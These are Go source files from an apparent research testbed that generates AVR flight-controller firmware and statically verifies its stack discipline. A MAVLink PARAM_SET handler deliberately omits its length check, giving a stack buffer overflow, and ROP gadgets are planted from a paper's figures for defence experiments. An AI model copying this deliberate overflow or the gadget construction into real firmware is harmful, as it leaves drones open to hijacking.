	b.Emit2(asm.LDS(26, AddrRxIdx))
	b.Emit(asm.LDI(27, AddrRxBuf>>8)) // X = AddrRxBuf | idx (low byte of AddrRxBuf is 0)
	b.Emit(asm.STX(24))
	b.Emit2(asm.LDS(26, AddrRxIdx))
	b.Emit(asm.INC(26))
	b.Emit2(asm.STS(AddrRxIdx, 26))
	b.Emit2(asm.LDS(25, AddrRxLen))
	b.Emit(asm.CP(26, 25))
	b.BRBC(avr.FlagZ, "rx_ret")
	setState(7)
	b.RJMP("rx_ret")

	b.Label("rxs7") // checksum low (consumed)
	b.Emit(asm.CPI(25, 7))
	b.BRBC(avr.FlagZ, "rxs8")
	setState(8)
	b.RJMP("rx_ret")

	b.Label("rxs8") // checksum high, then dispatch
	b.Emit(asm.CPI(25, 8))
	b.BRBC(avr.FlagZ, "rx_reset")
	b.Emit2(asm.STS(AddrRxState, 1))
	b.Emit2(asm.LDS(25, AddrRxMsgID))
	b.Emit(asm.CPI(25, 23)) // MAVLink PARAM_SET
	b.BRBC(avr.FlagZ, "rx_ret")
	g.call("handle_param_set")
	b.RJMP("rx_ret")

	b.Label("rx_reset")
	b.Emit2(asm.STS(AddrRxState, 1))
	b.Label("rx_ret")
	b.Emit(asm.SUBI(28, (-RxFrameBytes)&0xFF), asm.SBCI(29, 0xFF))
	g.emitSPWrite()
	b.Emit(asm.POP(28), asm.POP(29))
	b.Emit(asm.RET)
}

// emitHandleParamSet emits the vulnerable frame-pointer function: it
// copies RX_LEN payload bytes from the global receive buffer into a
// 64-byte stack buffer. With spec.Vulnerable the length check is
// disabled (the paper's §IV-B injected bug); RX_LEN up to 255 then
// overruns the saved registers and the 3-byte return address, exactly
// the smashed-frame geometry of Fig. 6.
func (g *generator) emitHandleParamSet() {
	b := g.b
	b.Label("handle_param_set")
	b.Emit(asm.PUSH(29), asm.PUSH(28), asm.PUSH(17), asm.PUSH(16))
	b.Emit(asm.IN(28, avr.IOAddrSPL), asm.IN(29, avr.IOAddrSPH))
	// Frames over 63 bytes use the subi/sbci idiom (adiw/sbiw carry a
	// 6-bit constant only).
	b.Emit(asm.SUBI(28, HandlerFrameBytes), asm.SBCI(29, 0))
	g.emitSPWrite()

	if g.spec.StackCanaries {
		// Plant the canary in the top frame byte, directly below the
		// saved registers (§IX runtime-check ablation). The slot is
		// beyond std's 6-bit displacement, so address it through Z.
		b.Emit(asm.MOVW(30, 28))
		b.Emit(asm.SUBI(30, (-HandlerFrameBytes)&0xFF), asm.SBCI(31, 0xFF))
		b.Emit(asm.LDI(16, CanaryByte))
		b.Emit(asm.STDZ(0, 16))
	}

	b.Emit2(asm.LDS(16, AddrRxLen))
	if !g.spec.Vulnerable {
		// The fixed firmware clamps the copy to the buffer size.
		b.Emit(asm.CPI(16, HandlerBufBytes+1))
		b.BRBS(avr.FlagC, "hps_len_ok") // branch if r16 < 65
		b.Emit(asm.LDI(16, HandlerBufBytes))
		b.Label("hps_len_ok")
	}
	b.Emit(asm.CPI(16, 0))
	b.BRBS(avr.FlagZ, "hps_copied")
	b.Emit(asm.LDI(26, AddrRxBuf&0xFF), asm.LDI(27, AddrRxBuf>>8))
	b.Emit(asm.MOVW(30, 28))
	b.Emit(asm.ADIW(30, 1))
	b.Label("hps_loop")
	b.Emit(asm.LDXInc(0))
	b.Emit(asm.STZInc(0))
	b.Emit(asm.DEC(16))
	b.BRBC(avr.FlagZ, "hps_loop")
	b.Label("hps_copied")

	// Interpret the first four payload bytes as the parameter value.
	for i := 0; i < 4; i++ {
		b.Emit(asm.LDDY(16, 1+i))
		b.Emit2(asm.STS(uint16(AddrParamVal+i), 16))
	}

	// Persist the first value byte to EEPROM configuration storage.
	b.Emit(asm.LDI(16, EEPROMParamAddr))
	b.Emit(asm.OUT(avr.AddrEEARL-avr.IOBase, 16))
	b.Emit(asm.OUT(avr.AddrEEARH-avr.IOBase, 1))
	b.Emit(asm.LDDY(16, 1))
	b.Emit(asm.OUT(avr.AddrEEDR-avr.IOBase, 16))
	b.Emit(asm.SBI(avr.AddrEECR-avr.IOBase, avr.BitEEMPE))
	b.Emit(asm.SBI(avr.AddrEECR-avr.IOBase, avr.BitEEPE))

	// Acknowledge with a PARAM_VALUE echo, as ArduPilot does.
	g.call("mav_send_param_value")

	if g.spec.StackCanaries {
		// Verify the canary before trusting the saved registers and
		// return address.
		b.Emit(asm.MOVW(30, 28))
		b.Emit(asm.SUBI(30, (-HandlerFrameBytes)&0xFF), asm.SBCI(31, 0xFF))
		b.Emit(asm.LDDZ(16, 0))
		b.Emit(asm.CPI(16, CanaryByte))
		b.BRBS(avr.FlagZ, "hps_canary_ok")
		b.JMP("__canary_fail")
		b.Label("hps_canary_ok")
	}

	b.Emit(asm.SUBI(28, (-HandlerFrameBytes)&0xFF), asm.SBCI(29, 0xFF))
	g.emitSPWrite()
	b.Emit(asm.POP(16), asm.POP(17), asm.POP(28), asm.POP(29))
	b.Emit(asm.RET)
}

// emitCanaryFail emits the stack-smashing handler: count the event and
// halt. As §IX observes, canaries detect the overflow but leave the
// program in an undefined state with no safe recovery path — which is
// why MAVR pairs detection with master-driven re-randomization instead.
func (g *generator) emitCanaryFail() {
	b := g.b
	b.Label("__canary_fail")
	b.Emit2(asm.LDS(24, AddrCanaryFails))
	b.Emit(asm.INC(24))
	b.Emit2(asm.STS(AddrCanaryFails, 24))
	b.Emit(asm.BREAK)
}

// emitSchedDispatch emits the AP_Scheduler-style dispatcher: it icalls
// through the function-pointer table(s) in .data, rotating one task per
// main-loop iteration. These data-resident pointers are what MAVR's
// preprocessing must find and its randomization must patch (§VI-B2/B3).
func (g *generator) emitSchedDispatch() {
	b := g.b
	b.Label("sched_dispatch")
	b.Emit2(asm.LDS(24, AddrSchedIdx))
	b.Emit(asm.ANDI(24, g.schedLen()-1))
	b.Emit(asm.MOV(30, 24))
	b.Emit(asm.ADD(30, 30)) // *2 bytes per pointer
	b.Emit(asm.LDI(31, 0))
	b.Emit(asm.LDI(26, AddrDataSection&0xFF), asm.LDI(27, AddrDataSection>>8))
	b.Emit(asm.ADD(26, 30), asm.ADC(27, 31))
	b.Emit(asm.LDXInc(30))
	b.Emit(asm.LDX(31)) // Z = table[idx]
	b.Emit(asm.ICALL)
	if g.spec.DirectPointerTable {
		// Second dispatch through the raw-address table.
		b.Emit2(asm.LDS(24, AddrSchedIdx))
		b.Emit(asm.ANDI(24, g.directLen()-1))
		b.Emit(asm.MOV(30, 24))
		b.Emit(asm.ADD(30, 30))
		b.Emit(asm.LDI(31, 0))
		directAddr := int(AddrDataSection) + g.schedLen()*2
		b.Emit(asm.LDI(26, directAddr&0xFF), asm.LDI(27, directAddr>>8))
		b.Emit(asm.ADD(26, 30), asm.ADC(27, 31))
		b.Emit(asm.LDXInc(30))
		b.Emit(asm.LDX(31))
		b.Emit(asm.ICALL)
	}
	b.Emit2(asm.LDS(24, AddrSchedIdx))
	b.Emit(asm.INC(24))
	b.Emit2(asm.STS(AddrSchedIdx, 24))
	b.Emit(asm.RET)
}

// emitStkMoveHost emits a frame-pointer function whose epilogue is
// byte-for-byte the paper's Fig. 4 stk_move gadget:
//
//	out 0x3e, r29 ; out 0x3f, r0 ; out 0x3d, r28
//	pop r28 ; pop r29 ; pop r16 ; ret
func (g *generator) emitStkMoveHost() {
	b := g.b
	b.Label("AP_AHRS_update_matrix_fp")
	b.Emit(asm.PUSH(16), asm.PUSH(29), asm.PUSH(28))
	b.Emit(asm.IN(28, avr.IOAddrSPL), asm.IN(29, avr.IOAddrSPH))
	b.Emit(asm.SBIW(28, 16))
	g.emitSPWrite()
	// Body: accumulate two scratch cells into a frame local.
	b.Emit2(asm.LDS(16, uint16(AddrScratch)))
	b.Emit(asm.STDY(1, 16))
	b.Emit2(asm.LDS(16, uint16(AddrScratch+1)))
	b.Emit(asm.STDY(2, 16))
	b.Emit(asm.LDDY(16, 1))
	b.Emit(asm.INC(16))
	b.Emit2(asm.STS(uint16(AddrScratch+2), 16))
	// Epilogue == Fig. 4 (the cli precedes the gadget window).
	b.Emit(asm.ADIW(28, 16))
	b.Emit(asm.IN(0, avr.IOAddrSREG))
	b.Emit(asm.CLI)
	b.Emit(asm.OUT(avr.IOAddrSPH, 29)) // gadget starts here (stk_move)
	b.Emit(asm.OUT(avr.IOAddrSREG, 0))
	b.Emit(asm.OUT(avr.IOAddrSPL, 28))
	b.Emit(asm.POP(28), asm.POP(29), asm.POP(16))
	b.Emit(asm.RET)
}

// emitWriteMemHost emits the function containing the paper's Fig. 5
// write_mem_gadget: three std Y+q stores of r5..r7 followed by a
// 16-register pop chain and ret. During normal execution Y points at
// the scratch area (loaded from AddrWritePtr), so calling the function
// legitimately writes three bytes to scratch and restores all
// registers.
func (g *generator) emitWriteMemHost() {
	b := g.b
	b.Label("AP_Param_save_block_fp")
	for r := 4; r <= 17; r++ {
		b.Emit(asm.PUSH(r))
	}
	b.Emit(asm.PUSH(28), asm.PUSH(29))
	b.Emit2(asm.LDS(28, AddrWritePtr))
	b.Emit2(asm.LDS(29, AddrWritePtr+1))
	b.Emit2(asm.LDS(5, AddrWriteVals))
	b.Emit2(asm.LDS(6, AddrWriteVals+1))
	b.Emit2(asm.LDS(7, AddrWriteVals+2))
	// The Fig. 5 gadget: stores then the pop chain.
	b.Emit(asm.STDY(1, 5))
	b.Emit(asm.STDY(2, 6))
	b.Emit(asm.STDY(3, 7))
	b.Emit(asm.POP(29), asm.POP(28))
	for r := 17; r >= 4; r-- {
		b.Emit(asm.POP(r))
	}
	b.Emit(asm.RET)
}

// prologueBlockName and epilogueBlockName name the ModeStock shared
// register save/restore blocks (GCC's -mcall-prologues machinery).
// Functions enter __prologue_saves_K with the return point in Z (loaded
// via LDI pairs — the unpatchable encoding the paper disables) and
// share __epilogue_restores_K as their pop/ret tail.
func prologueBlockName(k int) string { return "__prologue_saves_" + string(rune('0'+k)) }
func epilogueBlockName(k int) string { return "__epilogue_restores_" + string(rune('0'+k)) }

// savedRegs returns the callee-saved registers a K-register function
// preserves, in push order.
func savedRegs(k int) []int {
	all := []int{28, 29, 17, 16, 15, 14}
	return all[:k]
}
