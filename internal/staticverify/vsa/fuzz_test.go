package vsa_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
	"mavr/internal/staticverify/vsa"
)

// lockstepOps is the abstract domain's data-instruction coverage: the
// fuzzer executes exactly these ops on both machines. Control transfers
// are the analyzer's business (the abstract Step never moves a program
// counter), and ops with machine-level side effects the domain does not
// model (SPM, SLEEP, skips) are left out of the stream.
var lockstepOps = map[avr.Op]bool{
	avr.OpNOP: true, avr.OpMOV: true, avr.OpMOVW: true, avr.OpLDI: true,
	avr.OpADD: true, avr.OpADC: true, avr.OpSUB: true, avr.OpSBC: true,
	avr.OpSUBI: true, avr.OpSBCI: true, avr.OpCP: true, avr.OpCPC: true, avr.OpCPI: true,
	avr.OpAND: true, avr.OpOR: true, avr.OpEOR: true, avr.OpANDI: true, avr.OpORI: true,
	avr.OpCOM: true, avr.OpNEG: true, avr.OpSWAP: true, avr.OpINC: true, avr.OpDEC: true,
	avr.OpASR: true, avr.OpLSR: true, avr.OpROR: true,
	avr.OpMUL: true, avr.OpMULS: true, avr.OpMULSU: true, avr.OpFMUL: true,
	avr.OpADIW: true, avr.OpSBIW: true,
	avr.OpBSET: true, avr.OpBCLR: true, avr.OpBLD: true, avr.OpBST: true,
	avr.OpIN: true, avr.OpOUT: true, avr.OpCBI: true, avr.OpSBI: true,
	avr.OpLDS: true, avr.OpSTS: true,
	avr.OpLDX: true, avr.OpLDXInc: true, avr.OpLDXDec: true,
	avr.OpLDYInc: true, avr.OpLDYDec: true, avr.OpLDZInc: true, avr.OpLDZDec: true,
	avr.OpLDDY: true, avr.OpLDDZ: true,
	avr.OpSTX: true, avr.OpSTXInc: true, avr.OpSTXDec: true,
	avr.OpSTYInc: true, avr.OpSTYDec: true, avr.OpSTZInc: true, avr.OpSTZDec: true,
	avr.OpSTDY: true, avr.OpSTDZ: true,
	avr.OpLPM: true, avr.OpLPMZ: true, avr.OpLPMZInc: true,
	avr.OpELPM: true, avr.OpELPMZ: true, avr.OpELPMZInc: true,
	avr.OpPUSH: true, avr.OpPOP: true,
}

// storeAddr returns the concrete effective data address a store is
// about to write, so the harness can skip stores that would alias the
// register file or I/O space (the concrete machine's register change
// would be invisible to the abstract one — out of the domain's claim,
// which covers compiled code storing to SRAM).
func storeAddr(cpu *avr.CPU, in avr.Instr) (uint16, bool) {
	rp := func(lo int) uint16 { return uint16(cpu.Data[lo]) | uint16(cpu.Data[lo+1])<<8 }
	switch in.Op {
	case avr.OpSTX, avr.OpSTXInc:
		return rp(avr.RegXL), true
	case avr.OpSTXDec:
		return rp(avr.RegXL) - 1, true
	case avr.OpSTYInc:
		return rp(avr.RegYL), true
	case avr.OpSTYDec:
		return rp(avr.RegYL) - 1, true
	case avr.OpSTZInc:
		return rp(avr.RegZL), true
	case avr.OpSTZDec:
		return rp(avr.RegZL) - 1, true
	case avr.OpSTDY:
		return rp(avr.RegYL) + uint16(in.Q), true
	case avr.OpSTDZ:
		return rp(avr.RegZL) + uint16(in.Q), true
	case avr.OpSTS:
		return uint16(in.Target), true
	}
	return 0, false
}

func words(ws ...uint16) []byte {
	out := make([]byte, 2*len(ws))
	for i, w := range ws {
		out[2*i] = byte(w)
		out[2*i+1] = byte(w >> 8)
	}
	return out
}

// FuzzVSA drives the abstract transfer function in lockstep with the
// concrete emulator over random straight-line instruction streams and
// asserts the soundness invariant instruction by instruction: every
// concrete register value stays inside its abstract byte set and every
// concrete SREG bit stays allowed by its abstract flag.
func FuzzVSA(f *testing.F) {
	f.Add(words(
		asm.LDI(24, 0xFE), asm.LDI(25, 0x03), asm.ADD(24, 25),
		asm.MOV(18, 24), asm.ADIW(24, 5),
	))
	f.Add(words(
		asm.LDI(30, 0x04), asm.LDI(31, 0x00), asm.LPMZInc(16), asm.LPMZ(17),
		asm.MOVW(26, 30),
	))
	f.Add(words(
		asm.IN(0, 0x3F), asm.PUSH(0), asm.POP(1), asm.OUT(0x3F, 1),
		asm.LDI(28, 0x10), asm.LDI(29, 0x21), asm.PUSH(28),
	))
	f.Fuzz(func(t *testing.T, raw []byte) {
		if len(raw) < 2 {
			t.Skip()
		}
		img := make([]byte, 0x1000)
		copy(img, raw)
		cpu := avr.New()
		if err := cpu.LoadFlash(img); err != nil {
			t.Fatal(err)
		}
		st := vsa.EntryState()
		end := uint32(len(raw)) / 2
		if end > uint32(len(img))/2 {
			end = uint32(len(img)) / 2
		}

		check := func(pc uint32, in avr.Instr) {
			for r := 0; r < 32; r++ {
				if !st.Regs[r].Set.Has(cpu.Data[r]) {
					t.Fatalf("pc=0x%X %s: r%d=0x%02X escaped its abstract set %v",
						pc*2, in.Op, r, cpu.Data[r], st.Regs[r].Set.Values())
				}
			}
			sreg := cpu.SREG()
			for b := 0; b < 8; b++ {
				set := sreg&(1<<b) != 0
				if set && !st.Flags[b].MaySet() || !set && !st.Flags[b].MayClear() {
					t.Fatalf("pc=0x%X %s: SREG bit %d=%v disallowed by abstract flag %d",
						pc*2, in.Op, b, set, st.Flags[b])
				}
			}
		}

		pc := uint32(0)
		for steps := 0; steps < 256 && pc < end; steps++ {
			in := avr.DecodeAt(cpu.Flash, pc)
			if in.Words == 0 {
				break
			}
			next := pc + uint32(in.Words)
			if !lockstepOps[in.Op] {
				pc = next
				continue
			}
			if a, isStore := storeAddr(cpu, in); isStore && a < avr.SRAMBase {
				pc = next
				continue
			}
			cpu.PC = pc
			if err := cpu.Step(); err != nil {
				break
			}
			vsa.Step(st, in, cpu.Flash)
			check(pc, in)
			pc = next
		}
	})
}
