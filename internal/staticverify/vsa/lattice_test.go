package vsa

import (
	"testing"

	"mavr/internal/avr"
)

func TestByteSetOps(t *testing.T) {
	if !Const(0x42).Has(0x42) || Const(0x42).Size() != 1 {
		t.Fatal("Const is not a singleton")
	}
	s := FromBytes(1, 7, 255)
	if s.Size() != 3 || !s.Has(255) || s.Has(0) {
		t.Fatalf("FromBytes membership wrong: %v", s.Values())
	}
	u := s.Union(FromBytes(0, 7))
	if u.Size() != 4 || !u.Has(0) {
		t.Fatalf("Union wrong: %v", u.Values())
	}
	m := u.Intersect(FromBytes(7, 200))
	if !m.Equal(Const(7)) {
		t.Fatalf("Intersect wrong: %v", m.Values())
	}
	if !Top().IsTop() || Top().Size() != 256 {
		t.Fatal("Top is not the full set")
	}
	var empty ByteSet
	if !empty.IsEmpty() || empty.Size() != 0 {
		t.Fatal("zero value is not empty")
	}
	if !Top().Union(s).IsTop() || !Top().Intersect(s).Equal(s) {
		t.Fatal("Top is not an absorbing join / neutral meet element")
	}
	if !empty.Union(s).Equal(s) || !empty.Intersect(s).IsEmpty() {
		t.Fatal("empty is not a neutral join / absorbing meet element")
	}
	vals := FromBytes(200, 3, 100).Values()
	for i := 1; i < len(vals); i++ {
		if vals[i-1] >= vals[i] {
			t.Fatalf("Values not ascending: %v", vals)
		}
	}
	// Map1 collapses under non-injective maps and wraps modulo 256.
	inc := FromBytes(0xFF, 0x00).Map1(func(v byte) byte { return v + 1 })
	if !inc.Equal(FromBytes(0x00, 0x01)) {
		t.Fatalf("Map1 increment wrong: %v", inc.Values())
	}
	and := Top().Map1(func(v byte) byte { return v & 0x01 })
	if and.Size() != 2 {
		t.Fatalf("Map1 mask did not collapse top: %d values", and.Size())
	}
}

func TestFlagLattice(t *testing.T) {
	if FlagClear.Join(FlagSet) != FlagBoth {
		t.Fatal("clear ⊔ set != both")
	}
	if !FlagBoth.MayClear() || !FlagBoth.MaySet() {
		t.Fatal("both must allow either concrete value")
	}
	if FlagOf(true) != FlagSet || FlagOf(false) != FlagClear {
		t.Fatal("FlagOf wrong")
	}
	if FlagSet.MayClear() || FlagClear.MaySet() {
		t.Fatal("singleton flags leak the other value")
	}
}

func TestHeightLattice(t *testing.T) {
	a := Height{Lo: 2, Hi: 4}
	b := Height{Lo: -1, Hi: 3}
	j := a.Join(b)
	if j.Lo != -1 || j.Hi != 4 || j.Top {
		t.Fatalf("hull wrong: %+v", j)
	}
	if !a.Join(HeightTop()).Top || !HeightTop().Join(a).Top {
		t.Fatal("top must absorb joins")
	}
	if got := a.Add(-2); got.Lo != 0 || got.Hi != 2 {
		t.Fatalf("Add wrong: %+v", got)
	}
	if !HeightTop().Add(5).Top {
		t.Fatal("top must absorb shifts")
	}
	if !(Height{Lo: 3, Hi: 3}).Singleton() || (Height{Lo: 3, Hi: 4}).Singleton() || HeightTop().Singleton() {
		t.Fatal("Singleton wrong")
	}
	if !(Height{}).IsZero() || (Height{Lo: 0, Hi: 1}).IsZero() {
		t.Fatal("IsZero wrong")
	}
}

func TestJoinTabs(t *testing.T) {
	got := joinTabs([]uint32{1, 5, 9}, []uint32{2, 5, 10})
	want := []uint32{1, 2, 5, 9, 10}
	if !equalTabs(got, want) {
		t.Fatalf("merge = %v, want %v", got, want)
	}
	if joinTabs(nil, []uint32{1}) != nil || joinTabs([]uint32{1}, nil) != nil {
		t.Fatal("nil (top) must absorb joins")
	}
	// A union exceeding tabCap degrades to nil rather than growing
	// without bound.
	big := make([]uint32, tabCap)
	other := make([]uint32, tabCap)
	for i := range big {
		big[i] = uint32(2 * i)
		other[i] = uint32(2*i + 1)
	}
	if joinTabs(big, other) != nil {
		t.Fatal("over-cap union must degrade to nil")
	}
	if !equalTabs(joinTabs(big, big), big) {
		t.Fatal("self-join must be identity")
	}
}

// State.Join under widening forces every changing component straight to
// top, and a stack-pointer tag whose delta stops being a single value
// dies instead of accumulating an unbounded interval (the fixpoint
// termination fix: the delta hull has no finite height).
func TestStateJoinWidening(t *testing.T) {
	a := EntryState()
	a.Regs[16] = Val{Set: Const(1)}
	b := EntryState()
	b.Regs[16] = Val{Set: Const(2)}
	if !a.Clone().Join(b, false) {
		t.Fatal("join of differing states must report change")
	}
	w := a.Clone()
	w.Join(b, true)
	if !w.Regs[16].Set.IsTop() {
		t.Fatal("widening join must take changing registers to top")
	}

	a = EntryState()
	a.Tags[13] = Tag{Ok: true, Delta: Height{Lo: 2, Hi: 2}}
	b = EntryState()
	b.Tags[13] = Tag{Ok: true, Delta: Height{Lo: 4, Hi: 4}}
	g := a.Clone()
	g.Join(b, false)
	if g.Tags[13].Ok {
		t.Fatal("non-singleton delta growth must drop the tag")
	}
	same := a.Clone()
	same.Join(a.Clone(), false)
	if !same.Tags[13].Ok || !same.Tags[13].Delta.Singleton() {
		t.Fatal("identical tags must survive the join")
	}

	a = EntryState()
	a.Words[5] = []uint32{10, 20}
	b = EntryState()
	b.Words[5] = []uint32{30}
	ww := a.Clone()
	ww.Join(b, true)
	if ww.Words[5] != nil {
		t.Fatal("widening join must drop changing word provenance")
	}
	nw := a.Clone()
	nw.Join(b, false)
	if !equalTabs(nw.Words[5], []uint32{10, 20, 30}) {
		t.Fatalf("word provenance join wrong: %v", nw.Words[5])
	}
}

// Abstract 8-bit arithmetic wraps exactly like the hardware: the result
// set of ADD contains every pairwise sum modulo 256, and the carry flag
// reflects whether any pair overflowed.
func TestAbstractAddOverflow(t *testing.T) {
	st := EntryState()
	st.Regs[16] = Val{Set: FromBytes(0xFE, 0x01)}
	st.Regs[17] = Val{Set: FromBytes(0x03)}
	Step(st, avr.Instr{Op: avr.OpADD, D: 16, R: 17}, nil)
	if !st.Regs[16].Set.Equal(FromBytes(0x01, 0x04)) {
		t.Fatalf("add result = %v, want wrapped {1, 4}", st.Regs[16].Set.Values())
	}
	if !st.Flags[avr.FlagC].MayClear() || !st.Flags[avr.FlagC].MaySet() {
		t.Fatalf("carry must be both (one pair overflows, one does not): %v", st.Flags[avr.FlagC])
	}

	// The D==R diagonal doubles each value instead of crossing the set
	// with itself.
	st = EntryState()
	st.Regs[20] = Val{Set: FromBytes(0x80, 0x01)}
	Step(st, avr.Instr{Op: avr.OpADD, D: 20, R: 20}, nil)
	if !st.Regs[20].Set.Equal(FromBytes(0x00, 0x02)) {
		t.Fatalf("diagonal add = %v, want {0, 2}", st.Regs[20].Set.Values())
	}
	if !st.Flags[avr.FlagC].MaySet() {
		t.Fatal("0x80+0x80 must be able to carry")
	}
}
