package vsa

import (
	"fmt"
	"sort"

	"mavr/internal/avr"
)

// Input mirrors the recovered CFG in neutral types so this package
// does not import the verifier that drives it.
type Input struct {
	// Img is the flash image the functions were decoded from.
	Img []byte
	// RegionStart/RegionEnd delimit the shuffleable code region.
	RegionStart, RegionEnd uint32
	Funcs                  []Func
	Tables                 []Table
	// Patched lists flash byte offsets of 16-bit words the pointer
	// patcher rewrites per permutation.
	Patched []uint32
}

// Func is one function's basic blocks (byte addresses).
type Func struct {
	Name       string
	Start, End uint32
	Blocks     []Block
	// HasSPM excludes the function: self-modifying code invalidates
	// the analysis' image assumptions.
	HasSPM bool
}

// Block is one basic block with its intra-function successors.
type Block struct {
	Start, End uint32
	Succs      []uint32
}

// Table is one validated function-pointer table.
type Table struct {
	DataAddr, FlashOff, Words uint32
}

// Result is a whole-image analysis. Every address in it is relative to
// its function's start, and every Detail string is address-free, so a
// result computed on one image layout translates exactly to any
// permutation of the same base (the cached-verifier fast path).
type Result struct {
	Funcs []FuncResult
	Sites []Site
	// Reads are the flash ranges whose concrete bytes influenced the
	// analysis. Two images that agree byte-for-byte on these ranges
	// (and structurally via the lockstep diff) have isomorphic
	// analyses.
	Reads []Range
}

// FuncResult is the per-function stack-discipline verdict.
type FuncResult struct {
	Name string
	// StackProven: every path to every RET was shown to balance
	// pushes/pops and calls exactly, with no SP escape.
	StackProven bool
	// Skipped: the function was excluded (SPM).
	Skipped  bool
	Findings []Finding
}

// Finding is one structured stack-discipline problem.
type Finding struct {
	// Off is the instruction's byte offset relative to the function
	// start.
	Off    uint32
	Kind   string
	Detail string
}

// Stack finding kinds.
const (
	KindRetImbalance   = "ret-imbalance"
	KindStackUnproven  = "stack-unproven"
	KindSPEscape       = "sp-escape"
	KindStackUnderflow = "stack-underflow"
)

// Site is one indirect control transfer and what the analysis proved
// about its target pointer.
type Site struct {
	FuncIdx int
	// Off is the instruction's byte offset relative to the function
	// start.
	Off  uint32
	Op   avr.Op
	Call bool
	// Resolved: the target pointer provably comes from an enumerable
	// source. Words, when non-nil, lists flash byte offsets whose
	// little-endian word the pointer provably equals (matched-pair
	// provenance — exact); otherwise Lo/Hi describe the pointer halves
	// independently and Targets takes their cross product.
	Resolved bool
	Words    []uint32 `json:"words,omitempty"`
	Lo, Hi   HalfSource
}

// HalfSource describes one half of a resolved 16-bit code pointer:
// either bytes read from specific flash offsets of the verified image
// (table provenance — exact even for patched table words), or an
// explicit byte set.
type HalfSource struct {
	Offs []uint32 `json:"offs,omitempty"`
	Set  []byte   `json:"set,omitempty"`
}

// Range is a half-open byte range [Off, Off+Len).
type Range struct {
	Off, Len uint32
}

// Caps on site resolution: a site stays unresolved rather than carry
// an absurdly large proven set.
const (
	siteHalfCap    = 64
	siteProductCap = 256
)

// Analyze runs the value-set fixpoint over every function.
func Analyze(in *Input) *Result {
	ctx := &Ctx{
		Img:         in.Img,
		RegionStart: in.RegionStart,
		RegionEnd:   in.RegionEnd,
		Tables:      in.Tables,
		reads:       make(map[uint32]bool),
	}
	if len(in.Patched) > 0 {
		ctx.Patched = make(map[uint32]bool, 2*len(in.Patched))
		for _, off := range in.Patched {
			ctx.Patched[off] = true
			ctx.Patched[off+1] = true
		}
	}
	res := &Result{}
	for fi := range in.Funcs {
		f := &in.Funcs[fi]
		if f.HasSPM || len(f.Blocks) == 0 {
			res.Funcs = append(res.Funcs, FuncResult{Name: f.Name, Skipped: true})
			continue
		}
		fa := &funcAnalyzer{ctx: ctx, f: f, fi: fi}
		fr, sites := fa.run()
		res.Funcs = append(res.Funcs, fr)
		res.Sites = append(res.Sites, sites...)
	}
	res.Reads = coalesceReads(ctx.reads)
	return res
}

// coalesceReads folds the recorded flash offsets into sorted ranges.
func coalesceReads(reads map[uint32]bool) []Range {
	if len(reads) == 0 {
		return nil
	}
	offs := make([]uint32, 0, len(reads))
	for off := range reads {
		offs = append(offs, off)
	}
	sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
	var out []Range
	for _, off := range offs {
		if n := len(out); n > 0 && out[n-1].Off+out[n-1].Len == off {
			out[n-1].Len++
			continue
		}
		out = append(out, Range{Off: off, Len: 1})
	}
	return out
}

type funcAnalyzer struct {
	ctx *Ctx
	f   *Func
	fi  int

	states []*State // fixpoint in-state per block
	visits []int
}

func (a *funcAnalyzer) run() (FuncResult, []Site) {
	n := len(a.f.Blocks)
	a.states = make([]*State, n)
	a.visits = make([]int, n)
	idx := make(map[uint32]int, n)
	for i, b := range a.f.Blocks {
		a.states[i] = &State{Bot: true}
		idx[b.Start] = i
	}
	// The entry block starts the function; blocks only reachable
	// through an indirect jump stay bottom and are skipped — the
	// function is then reported unproven below.
	entry := 0
	for i, b := range a.f.Blocks {
		if b.Start == a.f.Start {
			entry = i
			break
		}
	}
	a.states[entry] = EntryState()

	queue := []int{entry}
	queued := make([]bool, n)
	queued[entry] = true
	for len(queue) > 0 {
		bi := queue[0]
		queue = queue[1:]
		queued[bi] = false
		out := a.states[bi].Clone()
		a.walk(bi, out, nil, nil)
		for _, s := range a.f.Blocks[bi].Succs {
			si, ok := idx[s]
			if !ok {
				continue
			}
			a.visits[si]++
			if a.states[si].Join(out, a.visits[si] > visitCap) && !queued[si] {
				queue = append(queue, si)
				queued[si] = true
			}
		}
	}

	// Reporting pass: every block once more from its fixed in-state,
	// now collecting findings and site descriptors.
	fr := FuncResult{Name: a.f.Name}
	var sites []Site
	hasIndirectJump := false
	for bi := range a.f.Blocks {
		if a.states[bi].Bot {
			continue
		}
		st := a.states[bi].Clone()
		emit := func(off uint32, kind, detail string) {
			fr.Findings = append(fr.Findings, Finding{Off: off - a.f.Start, Kind: kind, Detail: detail})
		}
		siteSink := func(s Site) {
			if s.Op == avr.OpIJMP || s.Op == avr.OpEIJMP {
				hasIndirectJump = true
			}
			sites = append(sites, s)
		}
		a.walk(bi, st, emit, siteSink)
	}
	sort.Slice(fr.Findings, func(i, j int) bool {
		if fr.Findings[i].Off != fr.Findings[j].Off {
			return fr.Findings[i].Off < fr.Findings[j].Off
		}
		return fr.Findings[i].Kind < fr.Findings[j].Kind
	})
	fr.Findings = dedupFindings(fr.Findings)
	sort.Slice(sites, func(i, j int) bool { return sites[i].Off < sites[j].Off })

	fr.StackProven = len(fr.Findings) == 0 && !hasIndirectJump
	if hasIndirectJump && len(fr.Findings) == 0 {
		fr.Findings = append(fr.Findings, Finding{
			Kind:   KindStackUnproven,
			Detail: "function exits through an indirect jump; per-function stack reasoning is incomplete",
		})
	}
	return fr, sites
}

func dedupFindings(fs []Finding) []Finding {
	out := fs[:0]
	for i, f := range fs {
		if i == 0 || f != out[len(out)-1] {
			out = append(out, f)
		}
	}
	return out
}

// walk abstractly executes one block. emit/siteSink are nil during
// fixpoint iteration and non-nil during the reporting pass.
func (a *funcAnalyzer) walk(bi int, st *State, emit func(off uint32, kind, detail string), siteSink func(Site)) {
	b := a.f.Blocks[bi]
	pc := b.Start / 2
	end := b.End / 2
	for pc < end {
		in := avr.DecodeAt(a.ctx.Img, pc)
		if in.Words == 0 {
			break
		}
		addr := pc * 2
		if emit != nil {
			a.ctx.emit = func(kind, detail string) { emit(addr, kind, detail) }
		} else {
			a.ctx.emit = nil
		}
		switch in.Op {
		case avr.OpICALL, avr.OpEICALL, avr.OpIJMP, avr.OpEIJMP:
			if siteSink != nil {
				siteSink(a.resolveSite(st, in, addr))
			}
			if in.Op == avr.OpICALL || in.Op == avr.OpEICALL {
				a.ctx.Step(st, in)
			}
		case avr.OpRET, avr.OpRETI:
			if emit != nil {
				a.checkRet(st, addr, emit)
			}
